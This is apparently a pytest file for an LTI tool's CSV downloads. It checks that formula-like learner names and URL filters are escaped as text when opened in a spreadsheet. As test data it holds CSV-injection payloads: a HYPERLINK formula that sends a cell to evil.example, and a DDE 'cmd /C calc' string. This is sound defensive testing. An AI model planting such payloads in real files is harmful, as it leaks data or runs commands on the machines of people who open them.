"""The LTI tool's CSV downloads over real HTTP: a learner's name from the LMS and a filter
from the URL stay text when the file is opened in a spreadsheet program."""
from __future__ import annotations

import csv
import io

import requests

from lti_tool.demo.platform import ROLE_LEARNER, User

EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&B2,"Details")'


def csv_rows(response: requests.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text[:300]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def launch_id(page) -> str:
    return page.url.split("launch=")[1].split("&")[0]


def test_instructor_csv_keeps_a_formula_like_name_as_text(sqlite_env):
    env = sqlite_env
    env.platform.users["mallory"] = User("mallory", EVIL_NAME, [ROLE_LEARNER])
    env.platform.users["tabby"] = User("tabby", "\t=1+1", [ROLE_LEARNER])
    assert env.launch("mallory").status_code == 200 and env.launch("tabby").status_code == 200
    launch = launch_id(env.launch("instructor-1"))
    rows = csv_rows(requests.get(env.tool_url + "/instructor/export.csv",
                                 params={"launch": launch}, timeout=10))
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["mallory"] == "'" + EVIL_NAME and names["tabby"] == "'\t=1+1"


def test_indicators_csv_keeps_a_filter_from_the_url_as_text(sqlite_env):
    launch = launch_id(sqlite_env.launch("instructor-1"))
    rows = csv_rows(requests.get(sqlite_env.tool_url + "/analytics/indicators.csv", timeout=10,
                                 params={"launch": launch, "sector": "=1+cmd|' /C calc'"}))
    assert ["filter", "sector", "'=1+cmd|' /C calc", "", ""] in rows  # 16 characters kept


def test_instructor_csv_has_a_label_beside_each_code(sqlite_env):
    """Codes stay (scripts join on them); people read the label column beside each."""
    import csv

    from digiready.packs import load_pack
    from tests.lti_tool.conftest import FIXTURE_PACK
    from tests.lti_tool.test_end_to_end import complete_diagnostic

    env = sqlite_env
    learner = env.browser()
    complete_diagnostic(env, learner, env.launch("learner-1", browser=learner))
    env.launch("learner-2")  # opened DigiReady, answered nothing
    launch = launch_id(env.launch("instructor-1"))
    body = requests.get(env.tool_url + "/instructor/export.csv", params={"launch": launch}, timeout=10)
    rows = {r["user_id"]: r for r in csv.DictReader(io.StringIO(body.content.decode("utf-8-sig")))}
    header = list(rows["learner-1"])
    for code in ("status", "level", "economy", "sector", "size"):
        assert header[header.index(code) + 1] == code + "_label"
    pack = load_pack(FIXTURE_PACK)
    done = rows["learner-1"]
    sector = pack.profile_question("sector")
    assert done["sector"] == sector.options[0].id and done["sector_label"] == sector.options[0].label
    assert done["level_label"] == next(lv.title for lv in pack.levels if lv.id == done["level"])
    assert done["status"] == "completed" and done["status_label"] == "Taken"
    assert rows["learner-2"]["status_label"] == "Not taken" and rows["learner-2"]["sector_label"] == ""
